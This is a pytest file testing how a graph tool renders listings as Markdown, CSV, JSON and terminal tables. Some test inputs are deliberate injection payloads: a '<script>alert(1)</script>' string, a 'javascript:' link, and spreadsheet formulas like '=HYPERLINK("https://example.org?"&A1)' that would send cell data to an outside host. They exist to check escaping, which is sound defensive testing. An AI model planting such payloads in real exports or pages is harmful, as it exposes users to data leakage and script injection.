"""Rows as a person or a program reads them."""

import csv
import io
import json
import os
import pty
import re
import subprocess
import sys
from contextlib import suppress

import pytest
from hypothesis import given
from hypothesis import strategies as st

from graph.listing import Listing, Section, as_csv, as_json, as_markdown, as_text, counted, joined, print_table

LISTING = Listing(
    "Oslo · place",
    ("link", "when"),
    [Section("located in", [("Norway", "2022"), ("ကိုကို", "")]), Section("", [("x", "y")])],
    "3 links.",
    {"id": "oslo", "name": "ကိုကို"},
)


def listing(*cells: str, heading: str = "h") -> Listing:
    """Return a listing with one row."""
    return Listing("t", tuple(f"c{number}" for number in range(len(cells))), [Section(heading, [cells])], "", None)


def test_markdown_is_a_heading_and_a_table_a_section() -> None:
    """A section without a heading has none, an empty cell stays a cell."""
    assert as_markdown(LISTING) == (
        "# Oslo · place\n"
        "\n"
        "## located in\n"
        "\n"
        "| link | when |\n"
        "| --- | --- |\n"
        "| Norway | 2022 |\n"
        "| ကိုကို |  |\n"
        "\n"
        "| link | when |\n"
        "| --- | --- |\n"
        "| x | y |\n"
        "\n"
        "3 links.\n"
    )


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("a | b", "a \\| b"),
        ("*a* _b_ `c`", "\\*a\\* \\_b\\_ \\`c\\`"),
        ("[a](javascript:x)", "\\[a\\](javascript:x)"),
        ("<script>alert(1)</script>", "\\<script\\>alert(1)\\</script\\>"),
        ("a\\b", "a\\\\b"),
        ("# a", "\\# a"),
        ("two\nlines\tand  spaces", "two lines and spaces"),
    ],
)
def test_markdown_shows_text_as_text(cell: str, expected: str) -> None:
    """In cells, headings and titles alike nothing of a name is taken for markup or ends the row."""
    shown = as_markdown(listing(cell, heading=cell)._replace(title=cell, remark=cell)).splitlines()

    assert (shown[0], shown[2], shown[6], shown[8]) == (f"# {expected}", f"## {expected}", f"| {expected} |", expected)


def test_csv_has_the_section_in_its_first_column() -> None:
    """One table for a program to read, one line end, no title and no remark."""
    assert as_csv(LISTING) == "section,link,when\r\nlocated in,Norway,2022\r\nlocated in,ကိုကို,\r\n,x,y\r\n"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_spreadsheet_runs_nothing(start: str) -> None:
    """What a spreadsheet would take for a formula begins with an apostrophe instead, in headings too."""
    cell = f'{start}HYPERLINK("https://example.org?"&A1)'

    rows = list(csv.reader(io.StringIO(as_csv(listing(cell, heading=cell)), newline="")))

    assert rows[1] == [f"'{cell}", f"'{cell}"]


@given(st.lists(st.text(st.characters(codec="utf-8")), min_size=1, max_size=4))
def test_csv_is_read_back_as_it_was(cells: list[str]) -> None:
    """Commas, quotes and line ends inside a cell survive; only what looks like a formula gains an apostrophe."""
    rows = list(csv.reader(io.StringIO(as_csv(listing(*cells)), newline="")))

    assert rows[1] == ["h", *(f"'{cell}" if cell.startswith(tuple("=+-@\t\r")) else cell for cell in cells)]


def test_json_is_the_data_itself() -> None:
    """Other scripts are readable in it, and the last line ends."""
    assert as_json(LISTING) == '{\n  "id": "oslo",\n  "name": "ကိုကို"\n}\n'
    assert json.loads(as_json(LISTING)) == LISTING.data


def test_text_for_a_pipe_has_a_line_a_row() -> None:
    """Columns line up, empty ones take no room, sections stand apart; nothing is wrapped, coloured or escaped."""
    rows = [("Norway", "", "2022", "[bold]x[/bold] " * 30), ("Sea", "", "", "y")]

    shown = as_text(Listing("Oslo", ("a", "b", "c", "d"), [Section("located in", rows)], "2 links.", None))

    assert shown.splitlines() == [
        "Oslo",
        "",
        "located in",
        "  Norway  2022  " + ("[bold]x[/bold] " * 30).rstrip(),
        "  Sea           y",
        "",
        "2 links.",
    ]


def test_a_table_for_a_pipe_is_that_text(capsys: pytest.CaptureFixture[str]) -> None:
    """`graph links NUG | grep` finds a whole row on one line."""
    print_table(LISTING)

    assert capsys.readouterr().out == as_text(LISTING)


def test_a_table_for_a_terminal_is_wrapped_to_its_width_and_coloured() -> None:
    """And what looks like markup in a name is still shown as it is."""
    code = (
        "from graph.listing import *;"
        "row = ('[b]x[/b] :smile:', 'word ' * 20, 'cite');"
        "print_table(Listing('[link]t', ('a', 'b', 'c'), [Section('[red]h', [row])], '1 link.', None))"
    )

    shown = on_a_terminal(code, columns=60)

    plain = re.sub(r"\x1b\[[0-9;]*m", "", shown)
    assert shown != plain
    assert max(map(len, plain.splitlines())) <= 60
    assert [part for part in ("[link]t", "[red]h", "[b]x[/b] :smile:", "1 link.") if part not in plain] == []
    assert plain.split().count("word") == 20


@pytest.mark.parametrize("columns", [60, 120])
def test_columns_stand_in_one_place_in_all_sections(columns: int) -> None:
    """Wide enough for the longest cell of any section where there is room, else each with its share."""
    code = (
        "from graph.listing import *;"
        "one = Section('one', [('Oslo', '2022', 'a' + ' b' * 30, 'here')]);"
        "other = Section('other', [('the Ministry of Ports', '', 'a', 'here')]);"
        "print_table(Listing('t', ('link', 'when', 'details', 'cite'), [one, other], '2 links.', None))"
    )

    lines = re.sub(r"\x1b\[[0-9;]*m", "", on_a_terminal(code, columns)).splitlines()

    places = [(line.index(" a "), line.index("here")) for line in lines if "here" in line]
    assert len(places) == 2
    assert places[0] == places[1]


def on_a_terminal(code: str, columns: int) -> str:
    """Run Python code with a real terminal as its output; return what it showed."""
    reader, writer = pty.openpty()
    environment = os.environ | {"TERM": "xterm-256color", "COLUMNS": str(columns)}
    with subprocess.Popen([sys.executable, "-c", code], stdout=writer, env=environment):
        os.close(writer)
        shown = b""
        with suppress(OSError):  # which is how a terminal says that it was closed
            while piece := os.read(reader, 4096):
                shown += piece
    os.close(reader)
    return shown.decode()


@pytest.mark.parametrize(
    ("counts", "expected"),
    [
        ((1, "relation"), "1 relation"),
        ((0, "relation"), "0 relations"),
        ((2_000, "relation"), "2,000 relations"),
        ((1, "entity", "entities"), "1 entity"),
        ((3, "entity", "entities"), "3 entities"),
    ],
)
def test_a_number_has_its_noun(counts: tuple, expected: str) -> None:
    """One of it, or several; thousands are set apart."""
    assert counted(*counts) == expected


def test_only_what_is_there_is_joined() -> None:
    """No separators around nothing."""
    assert (joined(["a", "", "b"]), joined(["", ""]), joined(["a", "b"], ", ")) == ("a; b", "", "a, b")
